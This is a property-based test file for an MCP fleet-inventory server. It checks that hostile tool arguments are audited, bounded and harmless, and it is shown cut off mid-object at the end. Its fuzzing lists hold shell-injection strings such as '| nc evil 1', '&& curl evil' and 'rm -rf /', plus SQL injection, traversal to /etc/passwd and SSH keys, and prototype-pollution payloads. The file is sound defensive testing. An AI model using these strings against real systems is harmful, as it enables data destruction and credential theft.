// Hostile input, property-based (fast-check), through the real MCP client:
// 1. every tool of ALL_TOOLS (iterated, so a new tool is covered without an edit)
//    gets arbitrary JSON for its whole arguments, and schema-shaped arguments with
//    one field made hostile (wrong type, 1 MB string, control characters, SQL/FTS
//    and path syntax, __proto__/constructor objects, an unknown field). Each call
//    answers (bounded), is a result or a short human isError without a stack,
//    writes exactly one audit row, never an `exception`, pollutes no prototype,
//    and the server still answers afterwards.
// 2. search_fleet: SQL and FTS5 syntax is text: no SQLite error, never a match the
//    plain words would not give, the database unchanged.
// 3. Paths: no tool takes a path; writes land only in the configured places
//    (file_sd_path, the config file, snapshots.archive_dir), whatever names,
//    descriptions or tags say; archive_dir cannot be moved by a tool call.
// 4. Hostile remote output through the real probe parsers (SSH simulator):
//    __proto__/constructor keys, a 1 MB hostname, shell metacharacters, newlines,
//    ANSI escapes and NULs in names are stored and shown as data, never run.
import { createHash } from "node:crypto";
import fc from "fast-check";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, relative } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createSource, type SourceFactory } from "../src/app/sources.js";
import { loadConfig } from "../src/config.js";
import { openDb } from "../src/db/open.js";
import { MAX_REMOTE_TEXT, neutraliseText } from "../src/discovery/neutralise.js";
import { ALL_TOOLS } from "../src/tools/index.js";
import { toolToListEntry, type AnyTool } from "../src/tools/registry.js";
import { fleetSource, port, service, container, type HostSpec } from "./support/fleet.js";
import { callOk, lastAudit, startHarness, text, type Harness } from "./support/harness.js";
import { debianHost, debianUnitFiles, type CannedHost } from "../src/sim/canned-hosts.js";
import { machineIdFor, startSimHost, type SimHost } from "./support/ssh-sim.js";
import { CLI, ensureBuilt, runCli, show } from "./support/cli.js";

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Json = any;

// ---------------------------------------------------------------- budgets

// Runs per tool and property: each tool gets WHOLE + FIELD + VALID calls, each followed by a ping.
/** FLEET_HOSTILE_SCALE=8 multiplies every numRuns, for a longer hunt by hand (about a minute). */
const SCALE = Math.max(1, Math.min(50, Number(process.env.FLEET_HOSTILE_SCALE) || 1));
const WHOLE_RUNS = 12 * SCALE;
const FIELD_RUNS = 20 * SCALE;
const VALID_RUNS = 16 * SCALE;
const SEARCH_RUNS = 60 * SCALE;
/** A call that does not answer within this fails the property (no hang). */
const CALL_TIMEOUT_MS = 20_000;
/** An error text longer than this echoes too much of the input back. */
const MAX_ERROR_TEXT = 4096;
const MB = 1024 * 1024;

/** Every tools/call made by this file, for the figures in docs/reliability.md. */
const figures = { calls: 0, isError: 0, ok: 0, byOutcome: {} as Record<string, number> };

// ---------------------------------------------------------------- hostile values

const MARK = `hostile${process.pid}x${Date.now().toString(36)}`;

const CONTROL_PIECES = [
  "\u0000",
  "\u0007",
  "\b",
  "\u001b[31;1m",
  "\u001b[2J\u001b[H",
  "\u001b]0;pwned\u0007",
  "\u001b]8;;http://evil/\u001b\\",
  "\u009b31m",
  "\r",
  "\n",
  "\r\n",
  "\t",
  "\u007f",
  "\u2028",
  "\u2029",
  "\u202e",
  "\ufeff",
  "\ud800",
  "\udfff",
  "\udbff\udfff",
];

const SYNTAX_PIECES = [
  "'; DROP TABLE targets; --",
  "' OR '1'='1",
  '" OR ""="',
  "%",
  "_",
  "\\",
  "\\\\'",
  "*",
  "NEAR(",
  "NEAR(a b, 2)",
  "OR",
  "AND",
  "NOT",
  ":",
  "^",
  "-",
  "(",
  ")",
  '"',
  "{col}:x",
  "targets:*",
  "rowid:1",
  "$(id)",
  "`id`",
  "; rm -rf / ;",
  "| nc evil 1",
  "&& curl evil",
  "%s%n%x",
  "{{7*7}}",
  "${process.exit()}",
];

const PATH_PIECES = [
  `../../../../tmp/${MARK}-a`,
  `/tmp/${MARK}-b`,
  `..\\..\\${MARK}-c`,
  "../../etc/passwd",
  "/etc/passwd",
  "~/.ssh/id_ed25519",
  `file:///tmp/${MARK}-d`,
  `%2e%2e%2f%2e%2e%2f${MARK}-e`,
  `./${MARK}-f/../../${MARK}-g`,
  "/dev/zero",
  "/proc/self/environ",
  "\u0000/etc/passwd",
];

const PROTO_JSON = [
  '{"__proto__":{"polluted":"yes"}}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
  '{"__proto__":{"__proto__":{"polluted":"yes"}}}',
  '{"prototype":{"polluted":"yes"},"__proto__":[1,2]}',
  '{"__proto__":null,"toString":"x","valueOf":1,"hasOwnProperty":"no"}',
];

// Built once: generating a megabyte per run would only slow shrinking down.
const HUGE = ["a".repeat(MB), "\u0000\u001b[2J\n".repeat(MB / 4), "é".repeat(MB / 2), "😀".repeat(MB / 4), `${"../".repeat(MB / 3)}etc/passwd`];
const DEEP = JSON.parse(`${"[".repeat(2000)}1${"]".repeat(2000)}`) as unknown;
const WIDE = Array.from({ length: 50_000 }, (_, i) => i);

const controlString = fc
  .array(fc.oneof(fc.constantFrom(...CONTROL_PIECES), fc.constantFrom("a", "web", "1", " ", "x-y")), { minLength: 1, maxLength: 24 })
  .map((a) => a.join(""));
const syntaxString = fc
  .array(fc.oneof(fc.constantFrom(...SYNTAX_PIECES), fc.constantFrom("web", "nginx", " ")), { minLength: 1, maxLength: 6 })
  .map((a) => a.join(" "));
const pathString = fc.constantFrom(...PATH_PIECES);
const protoObject = fc.constantFrom(...PROTO_JSON).map((s) => JSON.parse(s) as unknown);
const hugeValue = fc.oneof(
  fc.constantFrom(...HUGE),
  fc.constant(DEEP),
  fc.constant(WIDE),
  fc.constantFrom(...HUGE).map((s) => ({ [s.slice(0, 64 * 1024)]: 1 })),
  fc.constantFrom(...HUGE).map((s) => [s]),
);
const wrongType = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.string({ maxLength: 8 }),
  fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 6 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
  fc.constantFrom(-0, Number.MAX_SAFE_INTEGER + 2, -1, 0, 1e308, 2 ** 53),
);
const hostileValue = fc.oneof(
  { arbitrary: wrongType, weight: 3 },
  { arbitrary: hugeValue, weight: 1 },
  { arbitrary: controlString, weight: 3 },
  { arbitrary: syntaxString, weight: 2 },
  { arbitrary: pathString, weight: 2 },
  { arbitrary: protoObject, weight: 2 },
  { arbitrary: controlString.map((s) => [s]), weight: 1 },
  { arbitrary: syntaxString.map((s) => [s]), weight: 1 },
);
const hostileKey = fc.oneof(
  fc.constantFrom("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "extra_field", "", " ", "a.b", "$where", "../x"),
  controlString,
  fc.string({ maxLength: 12 }),
);

// ---------------------------------------------------------------- schema-shaped arguments

interface JsonSchema {
  type?: string;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  minimum?: number;
  maximum?: number;
  minItems?: number;
  maxItems?: number;
  additionalProperties?: boolean | JsonSchema;
}

/** Plausible values by property name, so that valid calls reach real rows too. */
const HINTS: Record<string, fc.Arbitrary<unknown>> = {
  target: fc.constantFrom("web-1", "db-1", "10.0.0.10"),
  "targets[]": fc.constantFrom("web-1", "db-1"),
  "sources[]": fc.constantFrom("lab"),
  a: fc.constantFrom("latest", "live", "base"),
  b: fc.constantFrom("latest", "live", "base"),
  query: fc.constantFrom("nginx", "web", "port:22", "postgres state:exited"),
  tool: fc.constantFrom(...ALL_TOOLS.map((t) => t.name)),
  stack: fc.constantFrom("shop"),
};

/** Strings that pass a plain length-bounded string field but carry control characters, syntax or paths. */
function hostileText(min: number, max: number): fc.Arbitrary<string> {
  return fc
    .oneof(
      controlString,
      syntaxString,
      pathString,
      fc.constantFrom(...HUGE).map((x) => x.slice(0, max)),
    )
    .map((x) => x.slice(0, max))
    .filter((x) => x.length >= min);
}

/**
 * Valid-looking values for a (draft-7, as tools/list publishes it) JSON schema;
 * unknown shapes get arbitrary JSON. With `hostile`, free-text strings and free
 * objects are hostile but still within the schema, so the call reaches the handler.
 */
function validArb(s: JsonSchema, name: string, hostile = false): fc.Arbitrary<unknown> {
  const hint = HINTS[name];
  const base = ((): fc.Arbitrary<unknown> => {
    if (s.enum) return fc.constantFrom(...s.enum);
    switch (s.type) {
      case "string": {
        const min = s.minLength ?? 0;
        const max = s.maxLength ?? 10_000;
        if (s.pattern) return fc.stringMatching(new RegExp(s.pattern)).filter((x) => x.length >= min && x.length <= max);
        const plain = fc.string({ minLength: min, maxLength: Math.max(min, Math.min(max, 32)) });
        return hostile ? fc.oneof({ arbitrary: hostileText(min, max), weight: 4 }, { arbitrary: plain, weight: 1 }) : plain;
      }
      case "integer":
        return fc.integer({ min: Math.max(s.minimum ?? -1e9, Number.MIN_SAFE_INTEGER), max: Math.min(s.maximum ?? 1e9, Number.MAX_SAFE_INTEGER) });
      case "number":
        return fc.double({ min: s.minimum ?? -1e9, max: s.maximum ?? 1e9, noNaN: true, noDefaultInfinity: true });
      case "boolean":
        return fc.boolean();
      case "array": {
        const min = s.minItems ?? 0;
        return fc.array(validArb(s.items ?? {}, `${name}[]`, hostile), { minLength: min, maxLength: Math.max(min, Math.min(s.maxItems ?? 4, 4)) });
      }
      case "object":
        if (s.properties) {
          const props = Object.fromEntries(Object.entries(s.properties).map(([k, v]) => [k, validArb(v, k, hostile)]));
          return fc.record(props, { requiredKeys: s.required ?? [] });
        }
        const free = fc.dictionary(fc.string({ maxLength: 10 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 });
        return hostile ? fc.oneof(protoObject, fc.dictionary(hostileKey, fc.oneof(hostileValue, fc.jsonValue({ maxDepth: 2 })), { maxKeys: 3 }), free) : free;
      default:
        return fc.jsonValue({ maxDepth: 2 });
    }
  })();
  return hint ? fc.oneof(hint, base) : base;
}

function inputSchema(tool: AnyTool): JsonSchema {
  return toolToListEntry(tool).inputSchema as JsonSchema;
}

/** Schema-shaped arguments with one field (known or unknown, top level or inside an array) made hostile. */
function mutatedArgs(tool: AnyTool): fc.Arbitrary<Record<string, unknown>> {
  const schema = inputSchema(tool);
  const keys = Object.keys(schema.properties ?? {});
  const valid = validArb(schema, "") as fc.Arbitrary<Record<string, unknown>>;
  const where = keys.length ? fc.oneof(fc.constantFrom(...keys), hostileKey) : hostileKey;
  return fc.tuple(valid, where, hostileValue, fc.boolean()).map(([args, key, value, intoArray]) => {
    const out: Record<string, unknown> = { ...args };
    // defineProperty: a "__proto__" key must be an own field, as JSON.parse makes it on the wire.
    const v = intoArray && Array.isArray(out[key]) && (out[key] as unknown[]).length ? [value, ...(out[key] as unknown[]).slice(1)] : value;
    Object.defineProperty(out, key, { value: v, enumerable: true, writable: true, configurable: true });
    return out;
  });
}

/** What the wire would carry: JSON text parsed on the other side (own __proto__ keys, no undefined). */
function wire(v: unknown): unknown {
  const s = JSON.stringify(v);
  return s === undefined ? null : (JSON.parse(s) as unknown);
}

// ---------------------------------------------------------------- checks

function auditCount(h: Harness): number {
  return (h.app.db.$client.prepare("SELECT count(*) AS n FROM audit_log").get() as { n: number }).n;
}

function assertNoPollution(): void {
  const probe = {} as Record<string, unknown>;
  expect(probe.polluted).toBeUndefined();
  expect(Object.keys(Object.prototype)).toEqual([]);
  expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(OBJECT_PROTO_NAMES);
  expect(Object.getPrototypeOf(probe)).toBe(Object.prototype);
  // eslint-disable-next-line no-restricted-syntax, guard-for-in
  for (const k in probe) throw new Error(`a fresh object has an enumerable key ${k}`);
  expect(([] as unknown as Record<string, unknown>).polluted).toBeUndefined();
  expect(typeof Object.prototype.toString).toBe("function");
}
const OBJECT_PROTO_NAMES = Object.getOwnPropertyNames(Object.prototype).sort();

/** One tools/call with every invariant of a hostile call checked; returns the result. */
async function hostileCall(h: Harness, name: unknown, args: unknown): Promise<Json> {
  const before = auditCount(h);
  const res = (await h.client.callTool({ name: name as string, arguments: args as Record<string, unknown> }, undefined, {
    timeout: CALL_TIMEOUT_MS,
  })) as Json;
  figures.calls++;
  const after = auditCount(h);
  expect(after, "exactly one audit row per call").toBe(before + 1);
  const row = lastAudit(h.app);
  if (typeof name === "string" && ALL_TOOLS.some((t) => t.name === name)) expect(row.tool).toBe(name);
  figures.byOutcome[row.outcome as string] = (figures.byOutcome[row.outcome as string] ?? 0) + 1;
  const t = text(res);
  expect(row.outcome, `an unexpected exception: ${String(row.error)}`).not.toBe("exception");
  if (res.isError) {
    figures.isError++;
    expect(row.outcome).not.toBe("ok");
    expect(t.trim().length, "a non-empty error text").toBeGreaterThan(0);
    expect(t).not.toMatch(/\n\s+at /);
    expect(t).not.toMatch(/SQLITE_|sqlite3?:|no such (table|column)|syntax error|fts5:/i);
    expect(t.length, `error text too long: ${t.slice(0, 200)}...`).toBeLessThanOrEqual(MAX_ERROR_TEXT);
  } else {
    figures.ok++;
    expect(row.outcome).toBe("ok");
    expect(res.structuredContent).toBeTypeOf("object");
    expect(t.trim().length).toBeGreaterThan(0);
    expect(t).not.toMatch(/\n\s+at /);
  }
  assertNoPollution();
  await h.client.ping({ timeout: CALL_TIMEOUT_MS });
  return res;
}

// ---------------------------------------------------------------- the fleet

function fleet(): HostSpec[] {
  return [
    {
      name: "web-1",
      address: "10.0.0.10",
      facts: { tags: "web,eu" },
      services: [service("nginx", { description: "A high performance web server" }), service("ssh"), service("cron")],
      containers: [
        container("proxy", "nginx:1.25-alpine", { composeProject: "shop", composeService: "proxy" }),
        container("shopdb", "postgres:16", { state: "exited", status: "Exited (1) 2 hours ago", composeProject: "shop", composeService: "db" }),
      ],
      stacks: [{ name: "shop", status: "running(1), exited(1)", configFiles: ["/opt/shop/docker-compose.yml"] }],
      ports: [port(22, "sshd"), port(443, "nginx")],
    },
    { name: "db-1", address: "10.0.0.20", services: [service("postgresql"), service("ssh")], ports: [port(5432, "postgres")] },
    { name: "gw-1", address: "10.0.0.1" },
  ];
}

interface World {
  h: Harness;
  dir: string;
  configFile: string;
  fileSd: string;
  archive: string;
  clock: { now: Date };
  close(): Promise<void>;
}

/**
 * A full-preset server on a config file in its own temp dir (file_sd_path and
 * archive_dir there too; the config's HOME is a directory in it), a programmable
 * fleet for `lab` (other source ids: an empty fleet; ssh sources: the real ssh source).
 */
async function world(): Promise<World> {
  const dir = mkdtempSync(join(tmpdir(), "fleet-hostile-"));
  const home = join(dir, "home");
  mkdirSync(home);
  mkdirSync(join(dir, "prom"));
  const configFile = join(dir, "fleet.config.json");
  const fileSd = join(dir, "prom", "fleet.json");
  const archive = join(dir, "archive");
  writeFileSync(
    configFile,
    JSON.stringify({
      sources: [{ kind: "local", id: "lab" }],
      prometheus: { file_sd_path: fileSd, write_after_discovery: true },
      snapshots: { archive_dir: archive, retention_days: 1, min_keep: 0 },
    }),
  );
  const env = { HOME: home };
  // Without `tools`: the harness then serves the full preset (the file's default would be readonly).
  const { tools: _preset, ...base } = loadConfig({ env, configPath: configFile, db: ":memory:", stderrIsTty: false });
  const clock = { now: new Date("2026-11-23T10:00:00.000Z") };
  const sourceFactory: SourceFactory = (cfg, deps) =>
    cfg.kind === "ssh" ? createSource(cfg, deps) : fleetSource(cfg.id, () => (cfg.id === "lab" ? fleet() : []));
  const h = await startHarness({ config: base, sourceFactory, now: () => new Date(clock.now), preset: "full" });
  // Every tool is served (full preset), and the client checks each structuredContent against its outputSchema.
  const listed = (await h.client.listTools()).tools.map((t) => t.name);
  expect(listed.sort()).toEqual(ALL_TOOLS.map((t) => t.name).sort());
  await callOk(h, "run_discovery");
  await callOk(h, "create_snapshot", { name: "base" });
  return {
    h,
    dir,
    configFile,
    fileSd,
    archive,
    clock,
    async close() {
      await h.close();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

// The app reads HOME for `~` in config paths that a tool call could name: keep it in a temp dir.
const realHome = process.env.HOME;
const fakeHome = mkdtempSync(join(tmpdir(), "fleet-hostile-home-"));
beforeAll(() => {
  process.env.HOME = fakeHome;
});
afterAll(() => {
  if (realHome === undefined) delete process.env.HOME;
  else process.env.HOME = realHome;
  rmSync(fakeHome, { recursive: true, force: true });
  // The figures docs/reliability.md quotes.
  console.log(`hostile-input figures: ${JSON.stringify(figures)}`);
});

// ---------------------------------------------------------------- 1. every tool

describe("every tool under hostile arguments", () => {
  it("covers every tool of ALL_TOOLS, each with an object input schema", () => {
    expect(ALL_TOOLS.length).toBeGreaterThanOrEqual(21);
    for (const t of ALL_TOOLS) expect(inputSchema(t).type, t.name).toBe("object");
  });

  for (const tool of ALL_TOOLS) {
    it(`${tool.name}: arbitrary JSON as the whole arguments, and schema-shaped arguments with one hostile field`, async () => {
      const w = await world();
      try {
        const whole = fc.oneof(
          fc.jsonValue({ maxDepth: 3 }),
          hostileValue,
          fc.dictionary(hostileKey, fc.oneof(hostileValue, fc.jsonValue({ maxDepth: 2 })), { maxKeys: 4 }),
        );
        await fc.assert(
          fc.asyncProperty(whole, async (args) => {
            await hostileCall(w.h, tool.name, wire(args));
          }),
          { numRuns: WHOLE_RUNS },
        );
        await fc.assert(
          fc.asyncProperty(mutatedArgs(tool), async (args) => {
            await hostileCall(w.h, tool.name, wire(args));
          }),
          { numRuns: FIELD_RUNS },
        );
        // Within the schema, so the handler itself meets the hostile text.
        await fc.assert(
          fc.asyncProperty(validArb(inputSchema(tool), "", true), async (args) => {
            await hostileCall(w.h, tool.name, wire(args));
          }),
          { numRuns: VALID_RUNS },
        );
        // Still serving, with its data intact.
        const ov = await callOk(w.h, "get_fleet_overview");
        expect(ov.targets.total).toBeGreaterThanOrEqual(3);
      } finally {
        await w.close();
      }
    }, 120_000);
  }

  it("a megabyte key, or hundreds of bad keys, in a config section is refused with a bounded message (was: echoed whole)", async () => {
    const w = await world();
    try {
      const many = Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`bad_${i}_${"k".repeat(200)}`, i]));
      for (const args of [{ lifecycle: { ["a".repeat(MB)]: 1 } }, { health: many, dry_run: true }, { roles: [{ ["r".repeat(MB)]: "x" }] }]) {
        const res = await hostileCall(w.h, "update_discovery_config", args);
        expect(res.isError).toBe(true);
        expect(text(res)).toMatch(/^The change is invalid, nothing was written: /);
      }
    } finally {
      await w.close();
    }
  });

  it("an unknown or malformed tool name is refused clearly and audited", async () => {
    const w = await world();
    try {
      const names = fc.oneof(controlString, syntaxString, pathString, fc.constantFrom(...HUGE), wrongType, protoObject);
      await fc.assert(
        fc.asyncProperty(names, fc.jsonValue({ maxDepth: 2 }), async (name, args) => {
          const res = await hostileCall(w.h, wire(name), wire(args));
          expect(res.isError).toBe(true);
          expect(["unknown_tool", "rejected"]).toContain(lastAudit(w.h.app).outcome);
        }),
        { numRuns: 20 * SCALE },
      );
    } finally {
      await w.close();
    }
  });
});

// ---------------------------------------------------------------- 2. search_fleet

const FTS_PIECES = [
  '"',
  '""',
  "'",
  "*",
  "NEAR(",
  "NEAR(nginx ssh, 1)",
  "OR",
  "AND",
  "NOT",
  ":",
  "^",
  "-",
  "+",
  "(",
  ")",
  "()",
  "'; DROP TABLE targets; --",
  "%",
  "_",
  "\\",
  "\\%",
  "name:*",
  "{name}:x",
  "x:y",
  "a*b",
  "\u0000",
  "a\u0000b",
  "\u001b[2J",
  "😀",
  "é",
];
const BASE_WORDS = ["nginx", "web", "ssh", "postgres", "shop", "proxy", "cron", "db"];

/** Every table's row count but the audit log's (each call appends one row there). */
function tableCounts(h: Harness): Record<string, number> {
  const $ = h.app.db.$client;
  const tables = $.prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name").all() as Array<{ name: string }>;
  return Object.fromEntries(
    tables
      .filter((t) => t.name !== "audit_log")
      .map((t) => [t.name, ($.prepare(`SELECT count(*) AS n FROM "${t.name.replace(/"/g, '""')}"`).get() as { n: number }).n]),
  );
}

/** type:name@target of every match of the whole query (every page). */
async function searchKeys(h: Harness, query: string): Promise<{ res: Json; keys: string[] }> {
  const keys: string[] = [];
  let cursor: string | undefined;
  let first: Json;
  for (let page = 0; page < 20; page++) {
    const res = await hostileCall(h, "search_fleet", { query, limit: 200, ...(cursor ? { cursor } : {}) });
    first ??= res;
    if (res.isError) return { res, keys };
    const out = res.structuredContent;
    keys.push(...out.matches.map((m: Json) => `${m.type}:${m.name}@${m.target.name}`));
    cursor = out.next_cursor ?? undefined;
    if (!cursor) break;
  }
  expect(cursor, "more than 20 pages on a three-host fleet").toBeUndefined();
  return { res: first, keys };
}

describe("search_fleet under SQL and FTS5 syntax", () => {
  let w: World;
  beforeAll(async () => {
    w = await world();
  });
  afterAll(async () => {
    await w.close();
  });

  it("finds what its plain words find, never more; syntax is text, never an SQLite error; the database is unchanged", async () => {
    const before = tableCounts(w.h);
    const baseline = new Map<string, string[]>();
    for (const word of BASE_WORDS) {
      const { res, keys } = await searchKeys(w.h, word);
      expect(res.isError, text(res)).toBeFalsy();
      baseline.set(word, keys);
    }
    expect(baseline.get("nginx")!.length).toBeGreaterThan(0);
    const query = fc.tuple(
      fc.constantFrom(...BASE_WORDS),
      fc.array(fc.oneof(fc.constantFrom(...FTS_PIECES), fc.constantFrom(...SYNTAX_PIECES)), { minLength: 1, maxLength: 6 }),
      fc.nat(),
      fc.constantFrom(" ", "  ", "\t", "\n"),
    );
    await fc.assert(
      fc.asyncProperty(query, async ([word, extras, at, sep]) => {
        const parts = [...extras];
        parts.splice(at % (parts.length + 1), 0, word);
        const q = parts.join(sep);
        const { res, keys } = await searchKeys(w.h, q);
        if (res.isError) {
          // Only a filter it cannot read (port:, type:) is refused, and it says how to write it.
          expect(lastAudit(w.h.app).outcome).toBe("tool_error");
          return;
        }
        // Words are AND-ed: adding any token can only narrow what the plain word finds.
        const base = new Set(baseline.get(word));
        for (const k of keys) expect(base.has(k), `${JSON.stringify(q)} matched ${k}, which ${word} alone does not`).toBe(true);
        // Tokens without a letter or digit are no words at all: the result is the plain word's.
        if (extras.every((e) => !/[\p{L}\p{N}]/u.test(e))) expect(keys.sort()).toEqual([...base].sort());
      }),
      { numRuns: SEARCH_RUNS },
    );
    // Nothing but syntax, or syntax around a word nothing has: no match, no error.
    await fc.assert(
      fc.asyncProperty(fc.array(fc.constantFrom(...FTS_PIECES, ...SYNTAX_PIECES, "zzqxnomatch"), { minLength: 1, maxLength: 5 }), async (parts) => {
        const q = [...parts, "zzqxnomatch"].join(" ");
        const { res, keys } = await searchKeys(w.h, q);
        if (!res.isError) expect(keys).toEqual([]);
      }),
      { numRuns: Math.ceil(SEARCH_RUNS / 2) },
    );
    expect(tableCounts(w.h)).toEqual(before);
    expect((w.h.app.db.$client.prepare("PRAGMA integrity_check").get() as { integrity_check: string }).integrity_check).toBe("ok");
    expect(w.h.app.db.$client.prepare("SELECT name FROM targets ORDER BY name").all()).toEqual([{ name: "db-1" }, { name: "gw-1" }, { name: "web-1" }]);
  });

  it("a NUL in a word is a separator, not the end of the FTS expression (was: SQLite 'unterminated string', an internal error)", async () => {
    for (const q of ["a\u0000", "nginx\u0000", "ngi\u0000nx", '"\u0000"', "\u0000*"]) {
      const res = await hostileCall(w.h, "search_fleet", { query: q });
      expect(res.isError, `${JSON.stringify(q)}: ${text(res)}`).toBeFalsy();
    }
    const res = await hostileCall(w.h, "search_fleet", { query: "nginx\u0000" });
    expect(res.structuredContent.matches.map((m: Json) => m.name)).toContain("nginx");
  });
});

// ---------------------------------------------------------------- 3. paths

/** Files (not directories) under `root`, relative, bounded in depth and count. */
function filesUnder(root: string, maxDepth = 6): string[] {
  const out: string[] = [];
  const walk = (dir: string, depth: number) => {
    if (depth > maxDepth || out.length > 10_000) return;
    let entries;
    try {
      entries = readdirSync(dir, { withFileTypes: true });
    } catch {
      return;
    }
    for (const e of entries) {
      const p = join(dir, e.name);
      if (e.isDirectory()) walk(p, depth + 1);
      else out.push(relative(root, p));
    }
  };
  walk(root, 0);
  return out.sort();
}

/** Paths under `root` (bounded walk, `skip` left out) whose name contains `needle`. */
function namesContaining(root: string, needle: string, maxDepth: number, skip?: string): string[] {
  const out: string[] = [];
  let seen = 0;
  const walk = (dir: string, depth: number) => {
    if (depth > maxDepth || seen > 200_000) return;
    let entries;
    try {
      entries = readdirSync(dir, { withFileTypes: true });
    } catch {
      return;
    }
    for (const e of entries) {
      seen++;
      const p = join(dir, e.name);
      if (p === skip) continue;
      if (e.name.includes(needle)) out.push(p);
      if (e.isDirectory() && !e.isSymbolicLink() && e.name !== "node_modules" && e.name !== ".git") walk(p, depth + 1);
    }
  };
  walk(root, 0);
  return out;
}

const PATH_KEY = /(^|_)(path|paths|file|files|dir|dirs|directory|filename|out|output|dest|destination|location)$/i;

describe("paths: no tool takes one, and writes land only in the configured places", () => {
  it("no tool's input schema has a path-like field (a new one fails here: restrict it to a configured directory)", () => {
    const found: string[] = [];
    const walk = (s: JsonSchema, at: string) => {
      for (const [k, v] of Object.entries(s.properties ?? {})) {
        if (PATH_KEY.test(k) && v.type !== "boolean") found.push(`${at}.${k}`);
        walk(v, `${at}.${k}`);
      }
      if (s.items) walk(s.items, `${at}[]`);
    };
    for (const t of ALL_TOOLS) walk(inputSchema(t), t.name);
    expect(found).toEqual([]);
  });

  it("update_discovery_config cannot move snapshots.archive_dir (where retention writes files); the rest of the policy still changes", async () => {
    const w = await world();
    try {
      const file = readFileSync(w.configFile, "utf8");
      const elsewhere = [join(tmpdir(), `${MARK}-archive`), `../../${MARK}-archive`, `~/${MARK}-archive`, join(w.dir, "archive", ".."), "/etc"];
      for (const archive_dir of [...elsewhere, null]) {
        for (const dry_run of [false, true]) {
          const res = await hostileCall(w.h, "update_discovery_config", { snapshots: { archive_dir }, dry_run });
          expect(res.isError, `${String(archive_dir)}: ${text(res)}`).toBe(true);
          expect(text(res)).toMatch(/archive_dir/);
          expect(text(res)).toMatch(/config file/);
          expect(lastAudit(w.h.app).outcome).toBe("tool_error");
        }
      }
      expect(readFileSync(w.configFile, "utf8")).toBe(file);
      expect(w.h.app.config.snapshots.archiveDir).toBe(w.archive);
      // The same directory again is no move; other keys of the policy change as before.
      const same = await hostileCall(w.h, "update_discovery_config", { snapshots: { archive_dir: w.archive, retention_days: 2 } });
      expect(same.isError, text(same)).toBeFalsy();
      expect(w.h.app.config.snapshots).toMatchObject({ archiveDir: w.archive, retentionMs: 2 * 86400_000 });
      // Retention then archives into the configured directory only.
      w.clock.now = new Date(w.clock.now.getTime() + 3 * 86400_000);
      await callOk(w.h, "create_snapshot", { name: "later" });
      expect(filesUnder(w.archive)).toEqual([expect.stringMatching(/^snapshot-\d+-base\.json\.gz$/)]);
      expect(namesContaining(tmpdir(), `${MARK}-archive`, 1)).toEqual([]);
    } finally {
      await w.close();
    }
  });

  it("traversal and shell syntax in names, descriptions, tags, targets and roles never make a tool write elsewhere", async () => {
    const w = await world();
    try {
      const before = new Set(filesUnder(w.dir));
      const texts = [...PATH_PIECES, ...SYNTAX_PIECES.slice(0, 8), `${MARK}/../../../x`, `${MARK}\u0000/etc/passwd`];
      let n = 0;
      for (const t of texts) {
        n++;
        // Names must be unique, not all digits, not latest/live: the tool says so when they are not.
        await hostileCall(w.h, "create_snapshot", { name: `${t}-${n}`, description: t, tags: [t.slice(0, 64) || "x"] });
        await hostileCall(w.h, "set_target_role", { target: t.slice(0, 256) || "x", role: "lab" });
        await hostileCall(w.h, "accept_host_key", { target: t.slice(0, 256) || "x", fingerprint: `SHA256:${"A".repeat(43)}` });
        await hostileCall(w.h, "get_target", { target: t.slice(0, 256) || "x" });
        await hostileCall(w.h, "export_prometheus_targets", { write_file: true, format: "file_sd", cursor: t.slice(0, 200) });
        await hostileCall(w.h, "update_discovery_config", { roles: [{ role: "lab", name: t }], dry_run: false });
        await hostileCall(w.h, "update_discovery_config", { upsert_sources: [{ kind: "local", id: t.slice(0, 63) }], dry_run: true });
        await hostileCall(w.h, "run_discovery", { sources: [t.slice(0, 63) || "x"], targets: [t.slice(0, 253) || "x"] });
      }
      const out = await callOk(w.h, "export_prometheus_targets", { write_file: true });
      expect(out.file.path).toBe(w.fileSd);
      // Expire every snapshot so far: retention archives them, under their sanitised names, in archive_dir only.
      w.clock.now = new Date(w.clock.now.getTime() + 3 * 86400_000);
      await callOk(w.h, "create_snapshot", { name: "after" });
      const after = filesUnder(w.dir);
      const added = after.filter((f) => !before.has(f));
      expect(added.length).toBeGreaterThan(1);
      for (const f of added)
        expect(f, `a file outside the configured places: ${f}`).toMatch(/^(archive\/snapshot-\d+-[A-Za-z0-9._-]*\.json\.gz|prom\/fleet\.json)$/);
      expect(after).toContain("fleet.config.json");
      expect(filesUnder(join(w.dir, "home"))).toEqual([]);
      // Nothing named from a payload anywhere near: the temp dir, the working directory, the home.
      for (const [root, depth] of [
        [tmpdir(), 3],
        [process.cwd(), 3],
        [fakeHome, 4],
        [dirname(w.dir), 1],
      ] as const) {
        // The archive in w.dir holds payload-named (sanitised) files by design: checked above.
        expect(namesContaining(root, MARK, depth, w.dir), `under ${root}`).toEqual([]);
      }
      expect(readFileSync("/etc/passwd", "utf8")).not.toContain(MARK);
    } finally {
      await w.close();
    }
  });

  it("a path named in a source (key, known_hosts) is only read: its content never reaches a result, the audit log or the logs", async () => {
    const w = await world();
    try {
      const secret = join(w.dir, "not-a-key.txt");
      const content = `TOPSECRET-${MARK}-do-not-show`;
      writeFileSync(secret, `${content}\n${content} ${content}\n`);
      const closed = await closedPort();
      const src = {
        kind: "ssh",
        id: "pathy",
        hosts: [{ address: "127.0.0.1", port: closed, name: "nowhere" }],
        auth: { agent: false, private_key_file: secret },
        host_key_policy: "strict",
        known_hosts_file: secret,
        timeout_ms: 1000,
